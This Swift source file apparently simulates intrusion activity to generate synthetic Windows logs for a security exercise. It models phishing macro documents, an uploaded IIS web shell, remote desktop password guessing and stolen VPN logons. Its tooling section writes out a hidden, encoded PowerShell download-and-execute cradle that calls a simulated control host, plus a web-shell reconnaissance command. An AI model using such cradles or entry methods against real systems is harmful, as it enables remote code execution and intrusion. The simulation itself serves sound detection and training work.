import Vocabulary

/// The ways in.
extension ExerciseIntrusion {
    static let entryStep = "entry"

    mutating func enter() -> Foothold {
        switch random.number(0...99) {
        case ..<40: openDocument()
        case ..<62: uploadPage()
        case ..<80: logOnFromOutside()
        default: comeByTunnel()
        }
    }

    /// A document by mail starts a script engine that fetches the implant.
    private mutating func openDocument() -> Foothold {
        begin(Self.entryStep, ["T1566.001", "T1204.002"])
        let place = random.pick(stage.site.workstations)
        let user = stage.site.user(of: place)
        // People open mail at work.
        let hour = Int((now.unixSeconds - stage.start.unixSeconds) / 3_600) % 24
        if hour > 9 { _ = after((24 - hour) * 3_600...(30 - hour) * 3_600) }
        let session = stage.windows[place].logOn(user, .unlock, at: now.advanced(byMilliseconds: -600_000))
        let mail = stage.windows[place].standing(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE", session: session)
        let folder = "C:\\Users\\\(user.name)\\Downloads\\"
        let file = random.pick(["Invoice_\(random.number(100...999)).docm", "Offer_0417.xlsm", "Minutes.docm"])
        stage.windows[place].createFile(folder + file, by: mail, at: now)
        let office = file.hasSuffix("docm") ? "WINWORD.EXE" : "EXCEL.EXE"
        let path = "C:\\Program Files\\Microsoft Office\\root\\Office16\\\(office)"
        let reader = stage.windows[place].start(
            path, "\"\(path)\" /n \"\(folder)\(file)\"", by: mail, at: after(3...20))
        entered(place, by: "T1566.001", "\(file), by mail")
        used(user)
        if random.chance(max(loud, 40)) {
            let loader = loadScript(on: place, by: reader)
            return Foothold(place: place, process: dropImplant(on: place, by: loader))
        }
        return Foothold(place: place, process: dropImplant(on: place, by: reader))
    }

    /// A page uploaded to the web server runs commands.
    private mutating func uploadPage() -> Foothold {
        begin(Self.entryStep, ["T1190", "T1505.003"])
        let place = stage.site.web
        let pool = Account(name: "DefaultAppPool", domain: "IIS APPPOOL", sid: SID(5, 82, 1, 2, 3))
        let session = Session(
            account: pool, logonID: 0x8_2000 + UInt64(random.number(0...900)), guid: .zero, type: .service,
            start: stage.start, privileged: true)
        let worker = stage.windows[place].standing(
            Tool.system("inetsrv\\w3wp.exe"), "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\"",
            session: session)
        let origin = outside
        stage.network.note(origin, to: stage.host(place).address, port: 443, at: now, random: &random)
        stage.windows[place].accept(
            origin, name: "-", on: 443, by: stage.windows[place].kernel, at: now.advanced(byMilliseconds: 4))
        stage.windows[place].createFile(
            "C:\\inetpub\\wwwroot\\uploads\\\(random.letters(5)).aspx", by: worker, at: after(1...4))
        entered(place, by: "T1190", "a page uploaded to the web server")
        let shell = stage.windows[place].start(
            Tool.shell, "cmd.exe /c whoami & hostname", by: worker, at: after(20...200))
        stage.windows[place].start(Tool.system("whoami.exe"), "whoami", by: shell, at: after(0...1))
        return Foothold(place: place, process: dropImplant(on: place, by: shell))
    }

    /// A password of a remote desktop open to the internet is guessed or bought.
    private mutating func logOnFromOutside() -> Foothold {
        begin(Self.entryStep, ["T1133", "T1078.002"])
        let place = random.pick(stage.site.servers)
        let account = random.pick(stage.site.administrators).account
        for _ in 0..<random.number(0...12) {
            stage.windows[place].refuseLogon(of: account.name, from: outside, at: after(2...30))
        }
        let seat = Seat(place: nil, address: outside.address, name: "-", process: nil)
        let explorer = stage.openDesktop(on: place, from: seat, as: account, minutes: 10...120, at: after(5...60))
        entered(place, by: "T1133", "a remote desktop from \(outside.address)")
        used(account)
        let shell = stage.windows[place].start(Tool.shell, "\"\(Tool.shell)\"", by: explorer, at: after(30...200))
        return Foothold(place: place, process: random.chance(60) ? dropImplant(on: place, by: shell) : shell)
    }

    /// Stolen credentials of the tunnel into the company: an address of its pool that is nobody's.
    private mutating func comeByTunnel() -> Foothold {
        begin(Self.entryStep, ["T1133", "T1078.002"])
        let place = random.pick(stage.site.servers)
        let account = random.pick(stage.site.administrators).account
        let net = stage.host(place).address.split(separator: ".")[1]
        let seat = Seat(place: nil, address: "10.\(net).250.\(random.number(10...99))", name: "-", process: nil)
        let explorer = stage.openDesktop(on: place, from: seat, as: account, minutes: 10...120, at: after(5...60))
        entered(place, by: "T1133", "the tunnel, by \(seat.address)")
        used(account)
        let shell = stage.windows[place].start(Tool.shell, "\"\(Tool.shell)\"", by: explorer, at: after(30...200))
        return Foothold(place: place, process: random.chance(60) ? dropImplant(on: place, by: shell) : shell)
    }

    // MARK: Tools

    mutating func loadScript(on place: Int, by parent: Process) -> Process {
        let script = "IEX (New-Object Net.WebClient).DownloadString('https://\(control.name)/\(random.letters(6))')"
        let loader = stage.windows[place].start(
            Tool.powerShell, "powershell.exe -nop -w hidden -enc \(encodedCommand(script))", by: parent,
            at: after(2...15))
        stage.windows[place].runScript(script, in: loader, suspicious: true, at: after(1...3))
        return loader
    }

    mutating func dropImplant(on place: Int, by parent: Process) -> Process {
        stage.windows[place].createFile(implant, by: parent, at: after(1...10))
        truth.brought(implant, to: stage.host(place), seed: stage.windows[place].seed)
        return stage.windows[place].start(implant, "\"\(implant)\"", by: parent, at: after(1...5))
    }
}
